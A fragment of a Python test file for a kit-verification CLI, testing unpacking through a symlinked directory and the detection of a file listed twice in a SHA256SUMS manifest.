def test_unpack_into_a_link_to_an_empty_directory_unpacks_there(kit: Path, tmp_path: Path) -> None:
    real = tmp_path / "media" / "usb"
    real.mkdir(parents=True)
    link = tmp_path / "usb"
    link.symlink_to(real)
    result = CliRunner().invoke(main, ["verify", str(kit), "--unpack", str(link)])
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and (real / "kit-demo" / "SHA256SUMS").is_file()
    assert sorted(p.name for p in real.parent.iterdir()) == ["usb"], "no stage left beside it"


def test_a_file_listed_twice_in_sha256sums_fails(kit: Path, tmp_path: Path) -> None:
    kit_dir = _unpacked(kit, tmp_path)
    listed = (kit_dir / "SHA256SUMS").read_text()
    (kit_dir / "SHA256SUMS").write_text("0" * 64 + "  README.txt\n" + listed)
    problems = _problems([kit_dir])
    assert any("path 'README.txt' is listed twice" in p for p in problems), problems
